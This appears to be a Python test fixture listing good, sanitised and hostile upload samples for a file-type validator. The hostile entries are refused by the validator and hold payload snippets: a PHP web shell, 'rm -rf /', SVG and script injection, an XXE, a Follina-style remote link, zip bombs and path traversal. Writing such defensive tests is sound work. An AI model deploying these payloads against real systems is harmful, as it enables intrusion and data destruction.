"""The upload corpus (T12). ``GOOD`` are taken as they are, ``TAMED`` are images that carry something and are taken
without it, ``HOSTILE`` are refused, each for its own reason."""

from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from complaints.file_types import FileType, Problem
from complaints.file_types.limits import MAX_FILE_BYTES
from tests.data.uploads import (
    FTYP,
    MACRO_WORD,
    PDF,
    SCRIPT,
    XXE,
    bomb,
    box,
    docx,
    encrypted,
    exif_jpeg,
    id3,
    image,
    jpeg_header,
    jpeg_of_many_scans,
    linked,
    media,
    mp3,
    packed,
    patched,
    pdf_in_zip_comment,
    pdf_with_html_head,
    png_header,
    png_with_chunk,
    png_with_text,
    png_with_text_bomb,
    text_with_late_script,
    wav,
    webp_header,
    with_lying_size,
    with_moved_directory,
    with_overlap,
    with_part,
    with_twins,
    xlsx,
)

Make = Callable[[], bytes]


@dataclass(frozen=True)
class Good:
    name: str
    found: FileType
    make: Make


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str
    problem: Problem
    make: Make


GOOD = [
    Good("电压.jpg", FileType.JPEG, image),
    Good("进度.JPEG", FileType.JPEG, lambda: image(progressive=True)),
    Good("截图.png", FileType.PNG, lambda: image("PNG")),
    Good("移交函.pdf", FileType.PDF, lambda: PDF),
    Good("移交函.docx", FileType.DOCX, docx),
    Good(
        "有链接.docx",
        FileType.DOCX,
        lambda: linked("hyperlink", "http://a.b"),
    ),
    Good("测量.xlsx", FileType.XLSX, xlsx),
    Good("说明.txt", FileType.TXT, lambda: "第一行\r\n第二行\t𠮷 🔌 a < b\n".encode()),
    Good("说明BOM.TXT", FileType.TXT, lambda: b"\xef\xbb\xbf" + "带签名".encode()),
    Good("录音.mp3", FileType.MP3, mp3),
    Good("录音标签.mp3", FileType.MP3, lambda: id3(b"TIT2" + b"\0" * 60) + mp3() + b"TAG" + b"\0" * 125),
    Good("录音.wav", FileType.WAV, wav),
    Good("录音.m4a", FileType.M4A, media),
    Good("安卓录音.m4a", FileType.M4A, lambda: media(brand=b"mp42")),
]

TAMED = [
    Good("定位.jpg", FileType.JPEG, exif_jpeg),
    Good("横拍.jpg", FileType.JPEG, lambda: exif_jpeg(orientation=6)),
    Good("注释.jpg", FileType.JPEG, lambda: image(comment=SCRIPT)),
    Good("坏标签.jpg", FileType.JPEG, lambda: image(exif=b"Exif\0\0MM\0*\xff\xff\xff\xff" + b"\xff" * 40)),
    Good("附压缩包.jpg", FileType.JPEG, lambda: image() + packed({"a.html": SCRIPT})),
    Good("网页.png", FileType.PNG, png_with_text),
    Good("尾巴.png", FileType.PNG, lambda: image("PNG") + SCRIPT),
    Good("私有块.png", FileType.PNG, lambda: png_with_chunk(b"scRp", SCRIPT)),
    Good("色彩.jpg", FileType.JPEG, lambda: image(icc_profile=b"\0" * 200 + SCRIPT)),
    Good("网页.html", FileType.PNG, lambda: image("PNG") + SCRIPT),
    Good("程序.php.jpg", FileType.JPEG, lambda: image() + b"<?php system($_GET[0]); ?>"),
    Good("动图.png", FileType.PNG, lambda: image("PNG", save_all=True, append_images=[Image.new("RGB", (120, 80))])),
    Good("十六位.png", FileType.PNG, lambda: image("PNG", mode="I;16")),
    Good("黑白.png", FileType.PNG, lambda: image("PNG", mode="1")),
    Good("调色板.png", FileType.PNG, lambda: image("PNG", mode="P", transparency=0)),
    Good("灰透明.png", FileType.PNG, lambda: image("PNG", mode="LA")),
    Good("印刷.jpg", FileType.JPEG, lambda: image(mode="CMYK")),
    Good("照片.webp", FileType.JPEG, lambda: image("WEBP")),
    Good("透明.webp", FileType.PNG, lambda: image("WEBP", mode="RGBA", lossless=True, exif=b"Exif\0\0" + SCRIPT)),
    Good("长截图.png", FileType.PNG, lambda: image("PNG", size=(900, 12_000))),
    Good("大照片.jpg", FileType.JPEG, lambda: image(size=(8192, 6144), quality=60)),
    Good("大渐进.jpg", FileType.JPEG, lambda: image(size=(7200, 5400), quality=60, progressive=True)),
    Good("大图.png", FileType.PNG, lambda: image("PNG", size=(4000, 3000), mode="RGBA")),
    Good("大图.webp", FileType.JPEG, lambda: image("WEBP", size=(3600, 2700), quality=40, method=0)),
]

_P = Problem
HOSTILE = [
    Hostile("nothing at all", "空.png", _P.EMPTY, bytes),
    Hostile("one byte too many", "大.jpg", _P.TOO_BIG, lambda: image().ljust(MAX_FILE_BYTES + 1, b"\0")),
    # web pages
    Hostile("svg", "图.svg", _P.MARKUP, lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    Hostile("svg with prologue", "图.png", _P.MARKUP, lambda: b'<?xml version="1.0"?>\n<SVG><script/></SVG>'),
    Hostile("html called jpg", "照片.jpg", _P.MARKUP, lambda: SCRIPT),
    Hostile("html", "页.html", _P.MARKUP, lambda: b"<!DOCTYPE html><body>"),
    Hostile("html called txt", "页.txt", _P.MARKUP, lambda: SCRIPT),
    Hostile("script late in a text", "长.txt", _P.MARKUP, text_with_late_script),
    Hostile("script at the end of a text", "尾.txt", _P.MARKUP, lambda: b"a" * 5000 + b"< ScRiPt src=//evil>"),
    Hostile("php called txt", "程序.txt", _P.MARKUP, lambda: b"<?php system($_GET[0]); ?>"),
    Hostile("html before a pdf", "文件.pdf", _P.MARKUP, lambda: SCRIPT + PDF),
    Hostile("html in the head of a pdf", "文件.pdf", _P.MARKUP, pdf_with_html_head),
    Hostile("html in a sound tag", "录音.mp3", _P.MARKUP, lambda: id3(SCRIPT) + mp3()),
    Hostile("entities in a document", "文档.docx", _P.MARKUP, lambda: with_part("word/a.xml", XXE)),
    Hostile("utf-16 part", "文档.docx", _P.MARKUP, lambda: with_part("word/a.xml", "<?xml?><a/>".encode("utf-16"))),
    # other types
    Hostile("windows program", "安装.exe", _P.UNKNOWN, lambda: b"MZ\x90\0" + b"\0" * 200),
    Hostile("program with two suffixes", "发票.pdf.exe", _P.UNKNOWN, lambda: b"MZ\x90\0" + b"\0" * 200),
    Hostile("program called jpg", "照片.jpg", _P.UNKNOWN, lambda: b"MZ\x90\0" + b"\0" * 200),
    Hostile("linux program", "run", _P.UNKNOWN, lambda: b"\x7fELF" + b"\0" * 200),
    Hostile("shell script", "a.sh", _P.UNKNOWN, lambda: b"#!/bin/sh\nrm -rf /\n"),
    Hostile("javascript", "a.js", _P.UNKNOWN, lambda: b"alert(1)"),
    Hostile("text called pdf", "a.pdf", _P.UNKNOWN, lambda: b"not a pdf"),
    Hostile("gif", "a.gif", _P.UNKNOWN, lambda: image("GIF")),
    Hostile("gif that is javascript", "a.gif", _P.UNKNOWN, lambda: b"GIF89a=1;alert(1)//"),
    Hostile("bmp", "a.bmp", _P.UNKNOWN, lambda: image("BMP")),
    Hostile("tiff", "a.tif", _P.UNKNOWN, lambda: image("TIFF")),
    Hostile("icon", "a.ico", _P.UNKNOWN, lambda: image("ICO")),
    Hostile("avif", "a.avif", _P.UNKNOWN, lambda: image("AVIF")),
    Hostile("postscript called jpg", "a.jpg", _P.UNKNOWN, lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run"),
    Hostile("flash", "a.swf", _P.UNKNOWN, lambda: b"FWS\x09" + b"\0" * 60),
    Hostile("rtf", "a.rtf", _P.UNKNOWN, lambda: b"{\\rtf1\\ansi hello}"),
    Hostile("java class", "a.class", _P.UNKNOWN, lambda: b"\xca\xfe\xba\xbe" + b"\0" * 60),
    Hostile("web archive", "a.mht", _P.UNKNOWN, lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n"),
    Hostile("noise", "a.jpg", _P.UNKNOWN, lambda: bytes(range(1, 256)) * 20),
    Hostile("heic", "IMG_1.HEIC", _P.HEIC, lambda: box(b"ftyp", b"heic", b"\0" * 4) + box(b"mdat", b"\0" * 99)),
    Hostile("old word", "旧.doc", _P.OLD_OFFICE, lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    Hostile("document with password", "密.docx", _P.OLD_OFFICE, lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 80),
    # archives
    Hostile("zip", "a.zip", _P.ARCHIVE, lambda: packed({"a.txt": "a"})),
    Hostile("zip called docx", "a.docx", _P.ARCHIVE, lambda: packed({"a.exe": b"MZ"})),
    Hostile("empty zip", "a.zip", _P.ARCHIVE, lambda: packed({})),
    Hostile("java archive", "a.jar", _P.ARCHIVE, lambda: packed({"META-INF/MANIFEST.MF": "a"})),
    Hostile("open document", "a.odt", _P.ARCHIVE, lambda: packed({"mimetype": "application/vnd.oasis"})),
    Hostile("rar", "a.rar", _P.ARCHIVE, lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 60),
    Hostile("7z", "a.7z", _P.ARCHIVE, lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 60),
    Hostile("gzip bomb called png", "a.png", _P.ARCHIVE, lambda: b"\x1f\x8b\x08" + b"\0" * 60),
    # pictures that are not
    Hostile("60k x 60k png", "a.png", _P.TOO_MANY_PIXELS, lambda: png_header(60_000, 60_000)),
    Hostile("png just over the limit", "a.png", _P.TOO_MANY_PIXELS, lambda: png_header(4001, 3000)),
    Hostile("png of 2 billion columns", "a.png", _P.TOO_MANY_PIXELS, lambda: png_header(2**31 - 1, 1)),
    Hostile("60k x 60k jpeg", "a.jpg", _P.TOO_MANY_PIXELS, lambda: jpeg_header(60_000, 60_000)),
    Hostile("16k x 16k webp", "a.webp", _P.TOO_MANY_PIXELS, lambda: webp_header(16_000, 16_000)),
    Hostile("jpeg of 400 scans", "a.jpg", _P.DAMAGED, jpeg_of_many_scans),
    Hostile("png without width", "a.png", _P.DAMAGED, lambda: png_header(0, 10)),
    Hostile("png with too few pixels", "a.png", _P.DAMAGED, lambda: png_header(3000, 3000)),
    Hostile("png cut short", "a.png", _P.DAMAGED, lambda: image("PNG", size=(800, 600))[:-300]),
    Hostile("png with a text bomb", "a.png", _P.DAMAGED, png_with_text_bomb),
    Hostile("jpeg cut short", "a.jpg", _P.DAMAGED, lambda: image(size=(800, 600))[:2000]),
    Hostile("only the mark of a jpeg", "a.jpg", _P.DAMAGED, lambda: b"\xff\xd8\xff\xe0" + b"\0" * 30),
    Hostile("jpeg mark and html", "a.jpg", _P.DAMAGED, lambda: b"\xff\xd8\xff" + SCRIPT),
    Hostile("png mark and html", "a.png", _P.DAMAGED, lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT),
    Hostile("webp mark and html", "a.webp", _P.DAMAGED, lambda: b"RIFF\x40\0\0\0WEBPVP8 " + SCRIPT),
    # documents that are more
    Hostile("zip behind a pdf", "a.pdf", _P.MIXED, lambda: PDF + packed({"a.exe": b"MZ"})),
    Hostile("pdf inside a zip comment", "a.pdf", _P.MIXED, pdf_in_zip_comment),
    Hostile("program behind a pdf", "a.pdf", _P.MIXED, lambda: PDF + b"MZ\x90\0" * 100),
    Hostile("pdf cut short", "a.pdf", _P.DAMAGED, lambda: PDF[:40]),
    Hostile("only the mark of a pdf", "a.pdf", _P.DAMAGED, lambda: b"%PDF-1.7\n%%EOF"),
    Hostile("macros in word", "a.docx", _P.MACRO, lambda: with_part("word/vbaProject.bin", b"\xd0\xcf")),
    Hostile("macro type renamed", "a.docx", _P.MACRO, lambda: docx(main=MACRO_WORD)),
    Hostile("excel 4 macros", "a.xlsx", _P.MACRO, lambda: with_part("xl/macrosheets/sheet1.xml", "<a/>")),
    Hostile("activex", "a.docx", _P.MACRO, lambda: with_part("word/activeX/activeX1.xml", "<a/>")),
    Hostile("program inside", "a.docx", _P.EMBEDDED, lambda: with_part("word/media/setup.exe", b"MZ")),
    Hostile("ole object inside", "a.docx", _P.EMBEDDED, lambda: with_part("word/embeddings/ole1.bin", b"\xd0\xcf")),
    Hostile("html inside", "a.docx", _P.EMBEDDED, lambda: with_part("word/afchunk.html", SCRIPT)),
    Hostile("document inside", "a.docx", _P.EMBEDDED, lambda: with_part("word/embeddings/b.docx", docx())),
    Hostile("remote template", "a.docx", _P.EXTERNAL, lambda: linked("attachedTemplate", "https://evil/x.dotm")),
    Hostile("remote share", "a.docx", _P.EXTERNAL, lambda: linked("image", "\\\\evil\\x.png")),
    Hostile("follina", "a.docx", _P.EXTERNAL, lambda: linked("oleObject", "mhtml:http://evil!x")),
    Hostile("password flag", "a.docx", _P.ENCRYPTED, encrypted),
    Hostile("zip bomb", "a.docx", _P.UNPACKS_TOO_BIG, bomb),
    Hostile("2,100 parts", "a.docx", _P.UNPACKS_TOO_BIG, lambda: docx({f"word/{n}.xml": "" for n in range(2100)})),
    Hostile("part larger than it says", "a.docx", _P.DAMAGED, with_lying_size),
    Hostile("overlapping parts", "a.docx", _P.MIXED, with_overlap),
    Hostile("two parts of one name", "a.docx", _P.MIXED, with_twins),
    Hostile("path out of the document", "a.docx", _P.MIXED, lambda: with_part("../../evil.xml")),
    Hostile("absolute path", "a.docx", _P.MIXED, lambda: with_part("/etc/evil.xml")),
    Hostile("two names of one part", "a.docx", _P.MIXED, lambda: patched(docx(), b"document.", b"documemt.")),
    Hostile("html behind a document", "a.docx", _P.MIXED, lambda: docx() + SCRIPT[:10]),
    Hostile("zip comment", "a.docx", _P.MIXED, lambda: docx()[:-2] + b"\x05\0hello"),
    Hostile("bytes between the parts", "a.docx", _P.MIXED, lambda: with_moved_directory(docx(), gap=SCRIPT)),
    Hostile("zip before a document", "a.docx", _P.MIXED, lambda: with_moved_directory(docx(), before=b"PK\x03\x04")),
    Hostile("document cut short", "a.docx", _P.DAMAGED, lambda: docx()[:-40]),
    Hostile("damaged part", "a.xlsx", _P.DAMAGED, lambda: patched(xlsx(), xlsx()[60:70], b"\xff" * 10)),
    # sound that is more
    Hostile("film", "a.m4a", _P.VIDEO, lambda: media(b"vide", b"isom")),
    Hostile("avi", "a.wav", _P.VIDEO, lambda: b"RIFF\x40\0\0\0AVI LIST" + b"\0" * 60),
    Hostile("webm", "a.m4a", _P.VIDEO, lambda: b"\x1a\x45\xdf\xa3" + b"\0" * 60),
    Hostile("box larger than the file", "a.m4a", _P.DAMAGED, lambda: media()[:-100]),
    Hostile("media without a track", "a.m4a", _P.DAMAGED, lambda: FTYP + box(b"mdat", b"a")),
    Hostile("box of no length", "a.m4a", _P.DAMAGED, lambda: FTYP + b"\0\0\0\x04moov"),
    Hostile("program behind an mp3", "a.mp3", _P.MIXED, lambda: mp3() + b"MZ\x90\0" * 50),
    Hostile("only an mp3 tag", "a.mp3", _P.DAMAGED, lambda: id3(b"\0" * 50)),
    Hostile("endless mp3 tag", "a.mp3", _P.DAMAGED, lambda: b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + mp3()),
    Hostile("zip behind a wav", "a.wav", _P.MIXED, lambda: wav() + packed({"a.exe": b"MZ"})),
    Hostile("wav longer than it is", "a.wav", _P.DAMAGED, lambda: wav()[:-50]),
    Hostile("wav without samples", "a.wav", _P.DAMAGED, lambda: b"RIFF\x04\0\0\0WAVE"),
    # text that is not
    Hostile("text in GB18030", "国标.txt", _P.NOT_UTF8, lambda: "电压不稳".encode("gb18030")),
    Hostile("text in UTF-16", "宽.txt", _P.NOT_UTF8, lambda: "电压不稳".encode("utf-16")),
    Hostile("NUL in a text", "空.txt", _P.ODD_TEXT, lambda: b"a\0b"),
    Hostile("terminal codes in a text", "色.txt", _P.ODD_TEXT, lambda: b"\x1b]0;evil\x07"),
    Hostile("zip behind a text", "a.txt", _P.MIXED, lambda: b"hello" + packed({"a.exe": b"MZ"})),
]  # fmt: skip
